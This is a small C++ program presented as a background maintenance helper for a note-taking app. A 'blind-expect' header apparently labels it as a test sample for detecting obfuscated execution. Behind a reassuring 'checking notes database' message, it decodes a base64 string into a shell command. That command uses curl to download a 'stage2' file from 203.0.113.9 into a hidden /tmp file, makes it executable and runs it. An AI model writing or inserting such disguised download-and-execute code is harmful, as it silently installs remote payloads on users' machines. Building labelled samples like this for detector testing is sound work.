// blind-expect: behavior.obfuscated-execution
// Update helper for a note-taking app that runs its maintenance task in a background child process.
#include <cstring>
#include <iostream>
#include <string>
#include <sys/wait.h>
#include <unistd.h>

static const char kTask[] =
    "Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjkvc3RhZ2UyIC1vIC90bXAvLnMyICYmIGNobW9kICt4IC90bXAv"
    "LnMyICYmIC90bXAvLnMy";

static std::string b64decode(const std::string &in)
{
    static const std::string alphabet =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    unsigned buf = 0;
    int bits = 0;
    for (char c : in) {
        if (c == '=')
            break;
        auto pos = alphabet.find(c);
        if (pos == std::string::npos)
            continue;
        buf = (buf << 6) | static_cast<unsigned>(pos);
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            out.push_back(static_cast<char>((buf >> bits) & 0xff));
        }
    }
    return out;
}

static int run_background(const std::string &task)
{
    pid_t pid = fork();
    if (pid < 0)
        return -1;
    if (pid == 0) {
        execl("/bin/sh", "sh", "-c", task.c_str(), static_cast<char *>(nullptr));
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

int main()
{
    std::cout << "checking notes database... ok\n";
    std::string task = b64decode(kTask);
    int rc = run_background(task);
    std::cout << "maintenance finished (" << rc << ")\n";
    return 0;
}
